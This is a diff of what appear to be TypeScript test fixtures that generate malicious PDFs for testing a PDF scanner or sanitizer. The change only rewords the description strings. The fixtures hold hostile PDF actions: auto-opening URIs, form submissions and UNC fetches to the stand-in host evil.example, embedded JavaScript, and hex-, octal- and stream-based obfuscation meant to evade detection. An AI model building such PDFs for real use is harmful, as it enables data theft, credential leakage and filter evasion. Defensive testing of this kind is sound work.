@@ -39,35 +39,35 @@ function hidden(object: string): Buffer {
 
 const names = (): Attack[] => [
   {
-    about: 'a form that is sent, its name in hexadecimal',
+    about: 'a submitted form with a hexadecimal name',
     bytes: link('<< /S /Submit#46orm /F (https://evil.example/) >>'),
   },
-  { about: 'data that is fetched', bytes: link('<< /S /ImportData /F (\\\\\\\\evil.example\\\\a.fdf) >>') },
+  { about: 'imported data', bytes: link('<< /S /ImportData /F (\\\\\\\\evil.example\\\\a.fdf) >>') },
   {
-    about: 'another file, its name in hexadecimal',
+    about: 'another file with a hexadecimal name',
     bytes: link('<< /S /GoTo#52 /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>'),
   },
-  { about: 'a file in a file', bytes: link('<< /S /GoToE /T << /R /C /N (a) >> >>') },
+  { about: 'an embedded file', bytes: link('<< /S /GoToE /T << /R /C /N (a) >> >>') },
   {
-    about: 'an action whose name is an object of its own',
+    about: 'an action whose name is a separate object',
     bytes: makePdf({ catalog: '/OpenAction 4 0 R', objects: ['<< /S 5 0 R /URI (http://evil.example/) >>', '/URI'] }),
   },
 ];
 
 const opened = (): Attack[] => [
   {
-    about: 'an address that opens by itself',
+    about: 'a URL that opens automatically',
     bytes: makePdf({ catalog: '/OpenAction << /S /URI /URI (http://evil.example/) >>' }),
   },
   {
-    about: 'an address that opens at the end of a chain',
+    about: 'a URL that opens at the end of an action chain',
     bytes: makePdf({
       catalog: '/OpenAction 4 0 R',
       objects: ['<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>', '<< /S /URI /URI (http://evil.example/) >>'],
     }),
   },
   {
-    about: 'a command of the reader that starts by itself',
+    about: 'a reader command that starts automatically',
     bytes: makePdf({ catalog: '/OpenAction << /S /Named /N /Print >>' }),
   },
   {
@@ -96,21 +96,21 @@ const opened = (): Attack[] => [
 
 const packed = (): Attack[] => [
   {
-    about: 'a form that is sent, packed with all other objects',
+    about: 'a submitted form in an object stream',
     bytes: makePackedPdf({
       catalog: '/OpenAction 4 0 R',
       objects: ['<< /S /SubmitForm /F (https://evil.example/) >>'],
     }),
   },
   {
-    about: 'a script in a name tree, packed',
+    about: 'a script in a name tree in an object stream',
     bytes: makePackedPdf({
       catalog: '/Names 4 0 R',
       objects: ['<< /Java#53cript 5 0 R >>', '<< /Names [(a) 6 0 R] >>', '<< /S /Hide >>'],
     }),
   },
   {
-    about: 'a script packed in a stream whose type is not said',
+    about: 'a script in an object stream without a type',
     bytes: makePdf({
       catalog: '/OpenAction 9 0 R',
       objects: [
@@ -122,7 +122,7 @@ const packed = (): Attack[] => [
     }),
   },
   {
-    about: 'a form of XML',
+    about: 'an XFA form',
     bytes: makePackedPdf({ catalog: '/AcroForm << /Fields [] /XF#41 4 0 R >>', objects: ['(x)'] }),
   },
   { about: 'a film', bytes: makePackedPdf({ objects: ['<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>'] }) },
@@ -134,7 +134,7 @@ const sealed = (): Attack[] => [
     bytes: makeEncryptedPdf({ password: '', change: (document) => document.addJavaScript('a', 'app.alert(1)') }),
   },
   {
-    about: 'a program to start, encrypted with an empty password by an older way',
+    about: 'an action that starts a program, encrypted with an empty password by an older algorithm',
     bytes: makeEncryptedPdf({
       password: '',
       algorithm: 'AES-128',
@@ -152,19 +152,19 @@ const sealed = (): Attack[] => [
 
 const addresses = (): Attack[] => [
   { about: 'a link to a file in octal', bytes: link(`<< /S /URI /URI ${octal('file://evil.example/share')} >>`) },
-  { about: 'a script as an address in hexadecimal', bytes: link(`<< /S /URI /URI ${hex('java\tscript:alert(1)')} >>`) },
+  { about: 'a script as a hexadecimal URL', bytes: link(`<< /S /URI /URI ${hex('java\tscript:alert(1)')} >>`) },
   { about: 'a link to \\\\host', bytes: link('<< /S /URI /URI (\\\\\\\\evil.example\\\\share) >>') },
   {
-    about: 'a stream whose bytes are elsewhere',
+    about: 'a stream with external bytes',
     bytes: makePdf({ objects: [pdfStream('/F (\\\\\\\\evil.example\\\\a)', Buffer.from(''))] }),
   },
   {
-    about: 'a later version of the page with an action',
+    about: 'a later revision of the page with an action',
     bytes: updated(
       '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /AA << /O << /S /URI /URI (http://evil.example/) >> >> >>',
     ),
   },
-  { about: 'an object among the bytes of a stream', bytes: hidden('<< /S /SubmitForm /F (https://evil.example/) >>') },
+  { about: 'an object inside the bytes of a stream', bytes: hidden('<< /S /SubmitForm /F (https://evil.example/) >>') },
 ];
 
 /** Returns all re-encoded PDF attacks. */
